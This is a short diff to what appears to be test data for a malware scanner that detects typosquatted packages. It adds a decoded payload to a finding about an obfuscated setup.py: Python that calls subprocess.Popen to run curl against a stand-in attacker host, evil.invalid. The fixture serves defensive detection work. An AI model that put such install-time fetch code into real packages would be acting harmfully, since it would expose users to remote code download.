@@ -140,7 +140,13 @@ const TYPOSQUAT_FINDINGS: readonly Finding[] = [
     technique: 'T1027',
     chain: [
       { file: 'setup.py', line: 4, layer: 0, text: 'decodes 1 layer (base64)' },
-      { file: 'setup.py', line: 4, layer: 0, text: 'executes the result' },
+      {
+        file: 'setup.py',
+        line: 4,
+        layer: 0,
+        text: 'executes the result',
+        decoded: 'import subprocess\nsubprocess.Popen(["curl", "https://evil.invalid/x"])',
+      },
       { file: 'setup.py', line: 2, layer: 1, text: 'starts curl https://evil.invalid/x' },
     ],
     references: [],
